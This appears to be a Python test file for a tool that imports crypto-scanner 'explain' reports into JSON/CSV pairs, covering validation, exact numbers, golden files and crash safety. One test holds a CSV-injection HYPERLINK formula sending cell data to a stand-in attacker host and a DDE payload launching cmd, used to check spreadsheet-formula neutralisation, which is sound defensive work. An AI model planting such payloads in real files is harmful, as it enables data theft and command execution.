"""Explain reports: model round trip, rules, input hash, CSV, golden files, the Go samples, the pair writer."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import math
import os
import random
from dataclasses import replace
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest

import catalog.core.fs as writer_module
from catalog.core.content import csv_records
from catalog.core.errors import ValidationError
from catalog.core.formats import csv_bytes, json_bytes
from catalog.core.names import parse_name, parse_temp_name
from catalog.core.store import Catalog
from catalog.cryptorun import explain as ex
from catalog.cryptorun import explain_rules
from catalog.cryptorun.demo import make_report
from catalog.cryptorun.writer import AtomicWriter
from catalog.ops.reconcile import reconcile

from helpers import all_records, catalog_env, run_python, runnable_cells, store_files, write_events

SAMPLES = Path(__file__).resolve().parents[2] / "shared" / "samples" / "cryptorun-go"
SAMPLE_FILES = sorted(SAMPLES.rglob("*.json"))
GOLDEN = Path(__file__).resolve().parent / "golden"
T = datetime(2024, 1, 15, 10, 30, tzinfo=timezone.utc)


def test_samples_are_present() -> None:
    if not SAMPLES.is_dir() and not os.environ.get("CI"):
        pytest.skip(f"the Go samples live beside the checkout ({SAMPLES}); CI always has them")
    assert len(SAMPLE_FILES) == 6, SAMPLE_FILES


# -- model ---------------------------------------------------------------------------


@pytest.mark.parametrize("assets", [0, 1, 7, 100])
def test_round_trip_report_json_models(assets: int) -> None:
    report = make_report(assets, seed=assets, now=T)
    data = json_bytes(report.to_dict())
    again = ex.ExplainReport.from_json(data)
    assert again == report
    assert json_bytes(again.to_dict()) == data
    assert explain_rules.check_report(report) == []


def test_csv_has_18_columns_and_one_row_per_asset() -> None:
    report = make_report(25, seed=3, now=T)
    rows = list(csv.reader(io.StringIO(csv_bytes(explain_rules.csv_rows(report), 6).decode())))
    assert tuple(rows[0]) == ex.CSV_COLUMNS and len(ex.CSV_COLUMNS) == 18
    assert len(rows) == 26 and all(len(r) == 18 for r in rows)
    for row, asset in zip(rows[1:], report.universe):
        cells = dict(zip(ex.CSV_COLUMNS, row))
        assert cells["symbol"] == asset.symbol and cells["decision"] == asset.decision
        assert int(cells["rank"]) == asset.rank and float(cells["score"]) == pytest.approx(asset.score, abs=1e-6)
        assert cells["entry_gate"] == ("true" if asset.gate_results.entry_gate.passed else "false")
        assert float(cells["social"]) == pytest.approx(asset.factor_parts.social, abs=1e-6)  # uncapped
        assert cells["regime"] == asset.attribution.regime_influence and cells["top_reason"] == asset.top_reason
        assert len(cells["score"].split(".")[1]) == 6  # csv_precision


def test_an_empty_universe_gives_the_header_only() -> None:
    assert csv_bytes(explain_rules.csv_rows(make_report(0, seed=1, now=T)), 6).decode() == ",".join(ex.CSV_COLUMNS) + "\n"


def test_top_reason_and_cache_hit_rate() -> None:
    asset = make_report(1, seed=1, now=T).universe[0]
    none = replace(asset, attribution=replace(asset.attribution, top_inclusion_reasons=(), top_exclusion_reasons=()))
    assert none.top_reason == "no_reason"
    excl = replace(asset, attribution=replace(asset.attribution, top_inclusion_reasons=(), top_exclusion_reasons=("x", "y")))
    assert excl.top_reason == "x"
    assert replace(asset.data_quality, cache_hits={}).cache_hit_rate == 0.0
    assert replace(asset.data_quality, cache_hits={"a": True, "b": False, "c": True, "d": True}).cache_hit_rate == 0.75


def _go_report(**micro: Any) -> bytes:
    """The Go scanner's 1-asset sample with its first asset's symbol, exchange or other microstructure changed."""
    data = json.loads((GOLDEN / "go-explain-1-asset.json").read_bytes())
    asset = data["universe"][0]
    if "symbol" in micro:
        asset["symbol"] = micro.pop("symbol")
    asset["microstructure"].update(micro)
    return json.dumps(data, indent=2, ensure_ascii=False).encode()


HYPERLINK = '=HYPERLINK("http://attacker.invalid/?x="&A1,"BTC-USD")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_the_csv_keeps_every_number_exact() -> None:
    """Issue 14, case 1: depth_usd 18446744073709551615 became 18446744073709551616.000000 in the derived CSV."""
    report = ex.ExplainReport.from_json(_go_report(depth_usd=2**64 - 1, spread_bps=0.00000000031, vadr=1e-8), lenient=True)
    assert report.universe[0].microstructure.depth_usd == 2**64 - 1  # kept as the int it is, not rounded to a float
    (row,) = csv_records(csv_bytes(explain_rules.csv_rows(report), 6))
    assert (row["depth_usd"], row["spread_bps"], row["vadr"]) == ("18446744073709551615", "0.00000000031", "0.00000001")
    assert row["score"] == "27.059643759555918" and row["quality"] == "30.000000"  # exact; whole floats padded
    assert float(row["momentum"]) == report.universe[0].factor_parts.momentum


def test_a_written_report_keeps_a_huge_whole_number_in_both_files(writer: AtomicWriter, base_dir: Path) -> None:
    report = make_report(2, seed=1, now=T)
    asset = replace(report.universe[1], microstructure=replace(report.universe[1].microstructure, depth_usd=2**64 - 1))
    report = replace(report, universe=(report.universe[0], asset))
    json_record, csv_record = writer.write_explain_report(report, "big")
    assert b'"depth_usd": 18446744073709551615,' in (base_dir / json_record.path).read_bytes()
    assert ex.ExplainReport.from_json((base_dir / json_record.path).read_bytes()).universe[1] == asset
    assert csv_records((base_dir / csv_record.path).read_bytes())[1]["depth_usd"] == "18446744073709551615"


def test_a_whole_number_beyond_any_float_is_refused() -> None:
    with pytest.raises(ValidationError, match=r"universe\[0\]\.microstructure\.depth_usd is out of range"):
        ex.ExplainReport.from_json(_go_report(depth_usd=10**400), lenient=True)


def test_an_imported_reports_formulas_never_run_in_its_csv(writer: AtomicWriter, catalog: Catalog, base_dir: Path) -> None:
    """Issue 14, case 2: a symbol or exchange a spreadsheet would run landed unchanged in the derived CSV."""
    data = _go_report(symbol=HYPERLINK, exchange=DDE, depth_usd=2**64 - 1)
    (json_record, csv_record), _ = writer.import_explain(data, "hostile")
    assert (base_dir / json_record.path).read_bytes() == data  # the evidence is stored byte for byte
    written = (base_dir / csv_record.path).read_bytes()
    assert runnable_cells(written) == []
    (row,) = csv_records(written)
    assert (row["symbol"], row["exchange"], row["depth_usd"]) == (HYPERLINK, DDE, "18446744073709551615")

    (base_dir / csv_record.path).unlink()  # reconcile derives it again: the same bytes
    assert reconcile(catalog, fix=True, grace=0).drift[0].fixed == "CSV regenerated from its JSON (same bytes as recorded)"
    assert (base_dir / csv_record.path).read_bytes() == written


# -- golden files -----------------------------------------------------------------------


def test_golden_files_are_byte_identical(tmp_path: Path) -> None:
    report = make_report(5, seed=42, now=T)
    produced = {"json": json_bytes(report.to_dict(), 2), "csv": csv_bytes(explain_rules.csv_rows(report), 6)}
    for ext, data in produced.items():
        golden = GOLDEN / f"explain-5-assets.{ext}"
        if os.environ.get("CATALOG_REGENERATE_GOLDEN") == "1":  # after a deliberate format change: review, commit
            golden.write_bytes(data)
        assert data == golden.read_bytes(), f"{golden.name} changed (CATALOG_REGENERATE_GOLDEN=1 rewrites it)"


# -- the rules, property-style --------------------------------------------------------------


def _break(report: ex.ExplainReport, kind: str, rng: random.Random) -> ex.ExplainReport:
    universe = list(report.universe)
    n = rng.randrange(len(universe))
    a = universe[n]
    g = a.gate_results
    if kind == "overall gate":
        universe[n] = replace(a, gate_results=replace(g, overall_result=not g.overall_result))
    elif kind == "decision":
        universe[n] = replace(a, decision="excluded" if a.decision == "included" else "included")
    elif kind == "rank follows score":
        if len(universe) < 2:
            return report
        m = (n + 1) % len(universe)
        universe[n], universe[m] = replace(universe[n], rank=universe[m].rank), replace(universe[m], rank=universe[n].rank)
        universe.sort(key=lambda x: x.rank)
    elif kind == "counts":
        return replace(report, meta=replace(report.meta, included_count=report.meta.included_count + 1))
    elif kind == "unique symbols":
        if len(universe) < 2:
            return report
        m = (n + 1) % len(universe)
        universe[m] = replace(universe[m], symbol=a.symbol)
    elif kind == "finite numbers":
        universe[n] = replace(a, score=rng.choice([math.nan, math.inf, -math.inf]))
    elif kind == "social cap":
        universe[n] = replace(a, factor_parts=replace(a.factor_parts, social_capped=a.factor_parts.social_capped + 1))
    elif kind == "reasons":
        universe[n] = replace(a, attribution=replace(a.attribution, top_exclusion_reasons=("a", "b", "c", "d")))
    elif kind == "input hash":
        return replace(report, meta=replace(report.meta, input_hash="v1_regime:choppy"))
    return replace(report, universe=tuple(universe))


KINDS = ["overall gate", "decision", "rank follows score", "counts", "unique symbols", "finite numbers", "social cap",
         "reasons", "input hash"]  # fmt: skip


@pytest.mark.parametrize("seed", range(40))
def test_the_validator_accepts_consistent_reports_and_refuses_each_inconsistency(seed: int) -> None:
    rng = random.Random(seed)
    report = make_report(rng.randint(1, 40), seed=seed, now=T)
    assert explain_rules.check_report(report) == []
    explain_rules.require_consistent(report)
    for kind in KINDS:
        broken = _break(report, kind, rng)
        if broken is report:
            continue
        rules = {v.rule for v in explain_rules.check_report(broken)}
        assert kind in rules, (kind, rules)
        with pytest.raises(ValidationError, match="explain report refused"):
            explain_rules.require_consistent(broken)


def test_refusals_name_the_asset_and_the_rule() -> None:
    report = make_report(3, seed=1, now=T)
    a = report.universe[1]
    broken = replace(report, universe=(report.universe[0], replace(a, decision="included" if a.decision == "excluded" else "excluded"), report.universe[2]))
    with pytest.raises(ValidationError) as caught:
        explain_rules.require_consistent(broken)
    assert a.symbol in str(caught.value) and "[rule: " in str(caught.value)


@pytest.mark.parametrize(
    "mutate,message",
    [
        (lambda d: d["meta"].pop("version"), r"\$.meta.version is missing"),
        (lambda d: d["universe"][0].update(decision="maybe"), "must be included or excluded"),
        (lambda d: d["universe"][0].update(score="high"), r"\$.universe\[0\].score must be a number"),
        (lambda d: d["universe"][0]["gate_results"]["entry_gate"].update(passed="yes"), "must be true or false"),
        (lambda d: d["universe"][0]["attribution"].update(top_inclusion_reasons=None), "must be a list, not null"),
        (lambda d: d.update(universe={}), r"\$.universe must be a list"),
        (lambda d: d["meta"].update(timestamp="yesterday"), "is not an ISO-8601 time"),
    ],
    ids=["missing-field", "bad-decision", "text-score", "text-bool", "null-list-strict", "universe-object", "bad-time"],
)
def test_required_fields_and_types(mutate, message: str) -> None:  # type: ignore[no-untyped-def]
    data = make_report(2, seed=1, now=T).to_dict()
    mutate(data)
    with pytest.raises(ValidationError, match=message):
        ex.ExplainReport.from_dict(data)


# -- input hash ---------------------------------------------------------------------------


def test_input_hash_is_order_independent_and_value_sensitive() -> None:
    a = {"regime": "choppy", "scan_type": "momentum", "timestamp": T, "symbols": ["BTC-USD", "ETH-USD"], "w": {"x": 1.5, "y": 2}}
    b = dict(reversed(list(a.items())))
    b["w"] = {"y": 2, "x": 1.5}
    assert explain_rules.input_hash(a) == explain_rules.input_hash(b) and len(explain_rules.input_hash(a)) == 64
    rng = random.Random(7)
    for key, value in [("regime", "trending"), ("timestamp", T.replace(second=1)), ("symbols", ["BTC-USD"]),
                       ("w", {"x": 1.5000001, "y": 2}), ("w", {"x": 1.5, "y": 2.0}), ("extra", None)]:  # fmt: skip
        changed = dict(a, **{key: value})
        assert explain_rules.input_hash(changed) != explain_rules.input_hash(a), key
    floats = [rng.uniform(-1e6, 1e6) for _ in range(200)]
    assert len({explain_rules.input_hash({"v": f}) for f in floats}) == 200  # unlike the Go original, no float collapses
    with pytest.raises(ValidationError):
        explain_rules.input_hash({"v": math.nan})


# -- the Go samples -------------------------------------------------------------------------


@pytest.mark.parametrize("sample", SAMPLE_FILES, ids=lambda p: str(p.relative_to(SAMPLES)))
def test_every_go_sample_loads_and_renders(sample: Path, run_cli) -> None:
    report = ex.ExplainReport.from_json(sample.read_bytes(), lenient=True)
    with pytest.raises(ValidationError):  # strict loading refuses Go's null lists (where there are assets)
        if report.universe:
            ex.ExplainReport.from_json(sample.read_bytes())
        else:
            raise ValidationError("empty universe: nothing to refuse")
    text = explain_rules.render(report, explain_rules.check_report(report))
    assert f"{report.meta.assets_count} assets" in text
    result = run_cli("explain", "show", str(sample), global_args=[])
    assert result.exit_code == 0, result.stderr
    for asset in report.universe:
        assert asset.symbol in result.stdout


@pytest.mark.parametrize("sample", SAMPLE_FILES, ids=lambda p: str(p.relative_to(SAMPLES)))
def test_every_go_sample_imports_byte_identical_with_a_full_csv(sample: Path, catalog: Catalog, run_cli, base_dir: Path) -> None:
    result = run_cli("explain", "import", str(sample), "--prefix", "momentum_scan", "--format", "json")
    assert result.exit_code == 0, result.stderr
    rows = json.loads(result.stdout)["artifacts"]
    json_row, csv_row = rows
    original = sample.read_bytes()
    assert json_row["sha256"] == hashlib.sha256(original).hexdigest()
    assert (base_dir / json_row["path"]).read_bytes() == original
    report = ex.ExplainReport.from_json(original, lenient=True)
    assert json_row["created_at"] == report.meta.timestamp.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert json_row["path"] == f"explain/{report.meta.timestamp:%Y%m%d-%H%M%S}-momentum_scan-explain.json"
    assert csv_row["path"] == json_row["path"].removesuffix(".json") + ".csv"
    assert json_row["pair_id"] == csv_row["pair_id"] is not None
    parsed = list(csv.DictReader(io.StringIO((base_dir / csv_row["path"]).read_text())))
    assert [r["symbol"] for r in parsed] == [a.symbol for a in report.universe]
    assert [int(r["rank"]) for r in parsed] == [a.rank for a in report.universe]
    imported = {e.path: e for e in catalog.events() if e.action == "import"}
    assert set(imported) == {json_row["path"], csv_row["path"]} and write_events(catalog) == []
    broken = imported[json_row["path"]].details["broken_rules"]
    if len(report.universe) == 8:
        assert any("rank follows score" in rule for rule in broken)  # the Go scanner's alphabetical ranks
    assert any("input hash" in rule for rule in broken)
    assert catalog.audit_verify().ok


# -- the pair writer ------------------------------------------------------------------------


def test_write_explain_report_writes_one_linked_pair(writer: AtomicWriter, catalog: Catalog, base_dir: Path) -> None:
    report = make_report(12, seed=5, now=T)
    json_record, csv_record = writer.write_explain_report(report, "momentum_scan")
    assert json_record.created_at == csv_record.created_at
    assert json_record.path.removesuffix(".json") == csv_record.path.removesuffix(".csv")
    assert json_record.pair_id == csv_record.pair_id and len(json_record.pair_id) == 32
    written = ex.ExplainReport.from_json((base_dir / json_record.path).read_bytes())
    assert written.meta.timestamp == json_record.created_at  # one instant: name, row, meta.timestamp
    assert written == report.with_timestamp(json_record.created_at)
    assert [e.path for e in write_events(catalog)] == [json_record.path, csv_record.path]
    assert catalog.audit_verify().ok


def test_an_inconsistent_report_writes_nothing(writer: AtomicWriter, catalog: Catalog, base_dir: Path) -> None:
    report = make_report(4, seed=2, now=T)
    broken = replace(report, meta=replace(report.meta, assets_count=5))
    with pytest.raises(ValidationError, match="meta.assets_count is 5, the universe has 4"):
        writer.write_explain_report(broken, "p")
    assert store_files(base_dir) == [] and all_records(catalog) == []


def test_the_json_is_published_before_the_csv(writer: AtomicWriter, catalog: Catalog, base_dir: Path, monkeypatch) -> None:
    seen: list[list[str]] = []

    def final_names() -> list[str]:  # both files are staged first: their temp files are there too
        return [path for path in store_files(base_dir) if parse_name(Path(path).name) is not None]

    monkeypatch.setattr(writer_module, "FAULT_HOOK", lambda point: seen.append(final_names()) if point == "published" else None)
    writer.write_explain_report(make_report(2, seed=1, now=T), "p")
    assert [len(files) for files in seen] == [1, 2] and seen[0][0].endswith(".json")


KILL_BETWEEN = """
import os, signal
from datetime import datetime, timezone
import catalog.core.fs as w
from catalog.cryptorun.demo import make_report
published = []
def hook(point):
    if point == "published":
        published.append(point)
        if len(published) == 1:
            os.kill(os.getpid(), signal.SIGKILL)
w.FAULT_HOOK = hook
from catalog.cryptorun.writer import AtomicWriter
with AtomicWriter() as writer:
    writer.write_explain_report(make_report(3, seed=1), "halfpair")
"""


def test_a_crash_between_the_two_files_leaves_a_lone_json_without_rows(catalog: Catalog, base_dir: Path, catalog_url) -> None:
    result = run_python(KILL_BETWEEN, catalog_env(base_dir, catalog_url))
    assert result.returncode == -9, result.stderr
    files = store_files(base_dir)
    (lone,) = [path for path in files if parse_name(Path(path).name) is not None]
    (csv_temp,) = [parse_temp_name(Path(path).name) for path in files if path != lone]  # staged with the JSON
    assert lone.endswith("-halfpair-explain.json") and csv_temp.final_name.endswith("-halfpair-explain.csv")  # type: ignore[union-attr]
    assert ex.ExplainReport.from_json((base_dir / lone).read_bytes()).meta.assets_count == 3  # complete
    assert all_records(catalog) == []


def test_explain_show_of_a_catalogued_report(writer: AtomicWriter, run_cli) -> None:
    json_record, _ = writer.write_explain_report(make_report(6, seed=9, now=T), "scan")
    result = run_cli("explain", "show", json_record.path)
    assert result.exit_code == 0, result.stderr
    assert "6 assets:" in result.stdout and "rank  symbol" in result.stdout
    as_json = json.loads(run_cli("explain", "show", json_record.path, "--format", "json").stdout)
    assert as_json["broken_rules"] == [] and len(as_json["report"]["universe"]) == 6


def test_importing_the_same_report_twice_is_a_collision(catalog: Catalog, run_cli, base_dir: Path) -> None:
    sample = GOLDEN / "go-explain-1-asset.json"  # a copy of the Go scanner's 1-asset sample
    assert run_cli("explain", "import", str(sample), "--prefix", "scan").exit_code == 0
    before = store_files(base_dir)
    again = run_cli("explain", "import", str(sample), "--prefix", "scan")
    assert again.exit_code == 2 and again.stderr.startswith("Error: explain/") and "already exists" in again.stderr
    assert store_files(base_dir) == before and len(all_records(catalog)) == 2
